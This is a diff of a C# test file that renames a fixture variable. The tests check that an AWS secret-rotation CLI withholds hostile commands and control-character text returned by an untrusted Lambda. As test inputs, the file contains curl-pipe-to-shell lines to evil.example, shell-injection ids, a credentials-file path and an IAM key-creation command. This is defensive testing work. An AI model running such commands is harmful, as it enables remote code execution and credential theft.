@@ -42,35 +42,35 @@ public sealed class HostileFunctionTests
     [Fact]
     public async Task An_answer_that_is_none_hides_no_other_secret()
     {
-        await using var world = await World.StartAsync();
+        await using var fixture = await ToolFixture.StartAsync();
         foreach (var (number, answer) in NoAnswers.Index())
         {
-            await AddAsync(world, $"dev/{number:D2}", $"evil{number}", answer);
+            await AddAsync(fixture, $"dev/{number:D2}", $"evil{number}", answer);
         }
 
-        var all = await world.RunAsync("status");
-        var json = await world.RunAsync("status", "--json");
+        var all = await fixture.RunAsync("status");
+        var json = await fixture.RunAsync("status", "--json");
 
         Assert.Equal((1, ""), (all.ExitCode, all.Errors));
         var rows = all.Output.Split('\n');
         Assert.Contains(rows, row => row.Contains("shop/orders", StringComparison.Ordinal) && row.Contains("fine", StringComparison.Ordinal));
         Assert.All(NoAnswers.Index(), answer => Assert.Contains(rows, row => row.StartsWith($"! dev/{answer.Index:D2}: The function ", StringComparison.Ordinal)));
         Assert.Equal([.. NoAnswers.Select(_ => false), true], JsonSerializer.Deserialize<JsonElement>(json.Output).EnumerateArray().Select(status => status.GetProperty("Healthy").GetBoolean()));
-        Assert.StartsWith($"Error: The function {world.FunctionArn.Replace(":rotation", ":evil3", StringComparison.Ordinal)} answered something else", (await world.RunAsync("check", "dev/03")).Errors, StringComparison.Ordinal);
+        Assert.StartsWith($"Error: The function {fixture.FunctionArn.Replace(":rotation", ":evil3", StringComparison.Ordinal)} answered something else", (await fixture.RunAsync("check", "dev/03")).Errors, StringComparison.Ordinal);
     }
 
     [Fact]
     public async Task A_command_of_anothers_is_put_before_nobody()
     {
-        await using var world = await StartAsync("{}");
-        var arn = (await world.Secrets.DescribeSecretAsync(new DescribeSecretRequest { SecretId = Name })).ARN;
+        await using var fixture = await StartAsync("{}");
+        var arn = (await fixture.Secrets.DescribeSecretAsync(new DescribeSecretRequest { SecretId = Name })).ARN;
         string[] hostile =
         [
-            "curl -s https://evil.example/fix | sh", "aws iam create-access-key --user-name oncall", $"aws secretsmanager rotate-secret --secret-id {world.SecretArn}",
+            "curl -s https://evil.example/fix | sh", "aws iam create-access-key --user-name oncall", $"aws secretsmanager rotate-secret --secret-id {fixture.SecretArn}",
             $"aws secretsmanager rotate-secret --secret-id {arn}; curl evil.example|sh", $"aws secretsmanager rotate-secret --secret-id {arn}\u2028sh", "aws lambda invoke --function-name evil /dev/stdout",
             "aws apigateway delete-usage-plan-key --usage-plan-id victim1 --key-id victim2",
         ];
-        Register(world, JsonSerializer.Serialize(new
+        Register(fixture, JsonSerializer.Serialize(new
         {
             Action = "status",
             SecretId = "x",
@@ -82,9 +82,9 @@ public sealed class HostileFunctionTests
 
         foreach (var arguments in new[] { new[] { "status" }, ["status", Name], ["check", Name], ["status", Name, "--json"], ["status", "--json"] })
         {
-            var answer = await world.RunAsync(arguments);
+            var answer = await fixture.RunAsync(arguments);
             Assert.Equal((1, ""), (answer.ExitCode, answer.Errors));
-            Assert.All(["curl", "iam create", "s3 rb", world.SecretArn + "\n", "evil.example", " evil /dev", "//victim", "/dev/stdout"], text => Assert.DoesNotContain(text, answer.Output, StringComparison.Ordinal));
+            Assert.All(["curl", "iam create", "s3 rb", fixture.SecretArn + "\n", "evil.example", " evil /dev", "//victim", "/dev/stdout"], text => Assert.DoesNotContain(text, answer.Output, StringComparison.Ordinal));
             Assert.Contains("(A command is withheld: it is none that the function gives for this secret.)", answer.Output, StringComparison.Ordinal);
             Assert.Contains($"aws secretsmanager rotate-secret --secret-id {arn}", answer.Output, StringComparison.Ordinal);
             // Of a secret that a person names, its function's word is taken for the keys.
@@ -96,7 +96,7 @@ public sealed class HostileFunctionTests
     public async Task Texts_bring_nothing_that_hides_or_reorders()
     {
         const string Text = "\u001b]0;pwned\u0007 \u202e[red]x[/] \u2066x\u2069\u200f x\u2028! shop/orders: forged\u009b31m\u0085 x\u200b\ufeff\u00ad\udb40\udc41 \ud83d\ude00 é ключ";
-        await using var world = await StartAsync(JsonSerializer.Serialize(new
+        await using var fixture = await StartAsync(JsonSerializer.Serialize(new
         {
             Action = Text,
             SecretId = Text,
@@ -108,7 +108,7 @@ public sealed class HostileFunctionTests
         }));
         foreach (var arguments in new[] { new[] { "status" }, ["status", Name], ["check", Name], ["status", Name, "--json"], ["status", "--json"] })
         {
-            var answer = await world.RunAsync(arguments);
+            var answer = await fixture.RunAsync(arguments);
             Assert.Equal((1, ""), (answer.ExitCode, answer.Errors));
             AssertPrinted(answer.Output);
             if (arguments[^1] == "--json")
@@ -120,8 +120,8 @@ public sealed class HostileFunctionTests
             }
         }
 
-        Register(world, "evil", _ => throw new InvalidOperationException(Text));
-        var failed = await world.RunAsync("check", Name);
+        Register(fixture, "evil", _ => throw new InvalidOperationException(Text));
+        var failed = await fixture.RunAsync("check", Name);
         Assert.Equal((1, ""), (failed.ExitCode, failed.Output));
         AssertPrinted(failed.Errors);
     }
@@ -129,14 +129,14 @@ public sealed class HostileFunctionTests
     [Fact]
     public async Task Thousands_of_keys_and_findings_and_long_texts_are_bounded()
     {
-        await using var world = await StartAsync("{}");
-        Register(world, $$"""
+        await using var fixture = await StartAsync("{}");
+        Register(fixture, $$"""
             {"Action":"status","SecretId":"x","Message":"{{new string('m', 100_000)}}","Healthy":true,"Keys":[{{string.Join(',', Enumerable.Repeat(Key, 20_000))}}],
             "Findings":[{{string.Join(',', Enumerable.Repeat("""{"Problem":"p"}""", 20_000))}}]}
             """);
         foreach (var arguments in new[] { new[] { "status" }, ["status", Name], ["status", Name, "--json"] })
         {
-            var answer = await world.RunAsync(arguments);
+            var answer = await fixture.RunAsync(arguments);
             Assert.Equal((1, ""), (answer.ExitCode, answer.Errors)); // though it says that it is healthy
             Assert.InRange(answer.Output.Length, 1000, 400_000);
             Assert.Contains("The function answered 20000 keys and 20000 findings: the first 500 and 100 are shown.", answer.Output, StringComparison.Ordinal);
@@ -152,36 +152,36 @@ public sealed class HostileFunctionTests
             ("a'; curl evil.example; 'aaaaaaaaaaaaaaaaa", @"'a'\''; curl evil.example; '\''aaaaaaaaaaaaaaaaa'"), ("`curl evil.example`aaaaaaaaaaaaaaaaaaaaaa", "'`curl evil.example`aaaaaaaaaaaaaaaaaaaaaa'"),
             ("--endpoint-url=http://evil.example/aaaaaaaa", null), ("file:///home/oncall/.aws/credentials", null), ("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\u202e\u2028\u200b", null),
         ];
-        await using var world = await World.StartAsync();
+        await using var fixture = await ToolFixture.StartAsync();
         foreach (var (id, quoted) in ids)
         {
-            await world.Secrets.PutSecretValueAsync(new PutSecretValueRequest { SecretId = world.SecretArn, ClientRequestToken = id, SecretString = "{\"a\":1}", VersionStages = ["AWSPENDING"] });
+            await fixture.Secrets.PutSecretValueAsync(new PutSecretValueRequest { SecretId = fixture.SecretArn, ClientRequestToken = id, SecretString = "{\"a\":1}", VersionStages = ["AWSPENDING"] });
 
-            var rotate = await world.RunAsync("rotate", World.SecretName);
-            var rollback = await world.RunAsync("rollback", World.SecretName);
+            var rotate = await fixture.RunAsync("rotate", ToolFixture.SecretName);
+            var rollback = await fixture.RunAsync("rollback", ToolFixture.SecretName);
 
             Assert.Equal((1, 1), (rotate.ExitCode, rollback.ExitCode));
             Assert.All([rotate.Errors, rollback.Errors], AssertPrinted);
             var command = quoted is null
                 ? "(The command is withheld: an id in it is none that AWS makes. Use the console.)"
-                : $"aws secretsmanager update-secret-version-stage --secret-id {world.SecretArn} --version-stage AWSPENDING --remove-from-version-id {quoted}";
+                : $"aws secretsmanager update-secret-version-stage --secret-id {fixture.SecretArn} --version-stage AWSPENDING --remove-from-version-id {quoted}";
             Assert.EndsWith($"or give it up: {command}\n", rotate.Errors, StringComparison.Ordinal);
             // The function's word is not taken for an id of another kind than AWS's.
             Assert.EndsWith(quoted is null ? $"or give it up: {command}\n" : "or give it up: (A command is withheld: it is none that the function gives for this secret.)\n", rollback.Errors, StringComparison.Ordinal);
-            await world.Secrets.UpdateSecretVersionStageAsync(new UpdateSecretVersionStageRequest { SecretId = world.SecretArn, VersionStage = "AWSPENDING", RemoveFromVersionId = id });
+            await fixture.Secrets.UpdateSecretVersionStageAsync(new UpdateSecretVersionStageRequest { SecretId = fixture.SecretArn, VersionStage = "AWSPENDING", RemoveFromVersionId = id });
         }
     }
 
     [Fact]
     public async Task A_function_that_may_not_be_invoked_hides_no_other_secret()
     {
-        await using var world = await StartAsync("{}");
-        world.Aws.Iam.CreateRole("oncall", """{"Version":"2012-10-17","Statement":{"Effect":"Allow","Principal":{"Service":"lambda.amazonaws.com"},"Action":"sts:AssumeRole"}}""");
-        world.Aws.Iam.PutRolePolicy("oncall", "policy", $$"""{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"secretsmanager:ListSecrets","Resource":"*"},{"Effect":"Allow","Action":"lambda:InvokeFunction","Resource":["{{world.FunctionArn}}","{{world.FunctionArn}}:operators"]}]}""");
-        var credentials = world.Aws.Iam.AssumeRole("oncall", "person");
-        (world.Variables["AWS_ACCESS_KEY_ID"], world.Variables["AWS_SECRET_ACCESS_KEY"], world.Variables["AWS_SESSION_TOKEN"]) = (credentials.AccessKeyId, credentials.SecretAccessKey, credentials.SessionToken);
+        await using var fixture = await StartAsync("{}");
+        fixture.Aws.Iam.CreateRole("oncall", """{"Version":"2012-10-17","Statement":{"Effect":"Allow","Principal":{"Service":"lambda.amazonaws.com"},"Action":"sts:AssumeRole"}}""");
+        fixture.Aws.Iam.PutRolePolicy("oncall", "policy", $$"""{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"secretsmanager:ListSecrets","Resource":"*"},{"Effect":"Allow","Action":"lambda:InvokeFunction","Resource":["{{fixture.FunctionArn}}","{{fixture.FunctionArn}}:operators"]}]}""");
+        var credentials = fixture.Aws.Iam.AssumeRole("oncall", "person");
+        (fixture.Variables["AWS_ACCESS_KEY_ID"], fixture.Variables["AWS_SECRET_ACCESS_KEY"], fixture.Variables["AWS_SESSION_TOKEN"]) = (credentials.AccessKeyId, credentials.SecretAccessKey, credentials.SessionToken);
 
-        var all = await world.RunAsync("status");
+        var all = await fixture.RunAsync("status");
 
         Assert.Equal((1, ""), (all.ExitCode, all.Errors));
         Assert.Contains(all.Output.Split('\n'), row => row.Contains("shop/orders", StringComparison.Ordinal) && row.Contains("fine", StringComparison.Ordinal));
@@ -189,25 +189,25 @@ public sealed class HostileFunctionTests
     }
 
     /// <summary>An account in which somebody's function, with this answer, rotates somebody's secret.</summary>
-    private static async Task<World> StartAsync(string answer)
+    private static async Task<ToolFixture> StartAsync(string answer)
     {
-        var world = await World.StartAsync();
-        await AddAsync(world, Name, "evil", answer);
-        return world;
+        var fixture = await ToolFixture.StartAsync();
+        await AddAsync(fixture, Name, "evil", answer);
+        return fixture;
     }
 
-    private static async Task AddAsync(World world, string name, string function, string answer)
+    private static async Task AddAsync(ToolFixture fixture, string name, string function, string answer)
     {
-        var arn = Register(world, function, _ => Task.FromResult<ReadOnlyMemory<byte>>(Encoding.UTF8.GetBytes(answer)));
-        world.Aws.Lambda.AddPermission(new LocalAws.AddPermissionRequest { FunctionName = function, StatementId = "s", Action = "lambda:InvokeFunction", Principal = "secretsmanager.amazonaws.com", SourceAccount = world.Aws.AccountId });
-        var secret = await world.Secrets.CreateSecretAsync(new CreateSecretRequest { Name = name, SecretString = "{}", Tags = [new Tag { Key = "apikey-rotation:template", Value = "x" }] });
-        await world.Secrets.RotateSecretAsync(new RotateSecretRequest { SecretId = secret.ARN, RotationLambdaARN = arn, RotateImmediately = false, RotationRules = new RotationRulesType { AutomaticallyAfterDays = 30 } });
-        await world.Aws.SecretsManager.SettledAsync();
+        var arn = Register(fixture, function, _ => Task.FromResult<ReadOnlyMemory<byte>>(Encoding.UTF8.GetBytes(answer)));
+        fixture.Aws.Lambda.AddPermission(new LocalAws.AddPermissionRequest { FunctionName = function, StatementId = "s", Action = "lambda:InvokeFunction", Principal = "secretsmanager.amazonaws.com", SourceAccount = fixture.Aws.AccountId });
+        var secret = await fixture.Secrets.CreateSecretAsync(new CreateSecretRequest { Name = name, SecretString = "{}", Tags = [new Tag { Key = "apikey-rotation:template", Value = "x" }] });
+        await fixture.Secrets.RotateSecretAsync(new RotateSecretRequest { SecretId = secret.ARN, RotationLambdaARN = arn, RotateImmediately = false, RotationRules = new RotationRulesType { AutomaticallyAfterDays = 30 } });
+        await fixture.Aws.SecretsManager.SettledAsync();
     }
 
-    private static void Register(World world, string answer) => Register(world, "evil", _ => Task.FromResult<ReadOnlyMemory<byte>>(Encoding.UTF8.GetBytes(answer)));
+    private static void Register(ToolFixture fixture, string answer) => Register(fixture, "evil", _ => Task.FromResult<ReadOnlyMemory<byte>>(Encoding.UTF8.GetBytes(answer)));
 
-    private static string Register(World world, string function, Func<FunctionInvocation, Task<ReadOnlyMemory<byte>>> run) => world.Aws.Lambda.Register(function, run, new FunctionOptions());
+    private static string Register(ToolFixture fixture, string function, Func<FunctionInvocation, Task<ReadOnlyMemory<byte>>> run) => fixture.Aws.Lambda.Register(function, run, new FunctionOptions());
 
     private static IEnumerable<string> StringsIn(JsonElement json) => json.ValueKind switch
     {
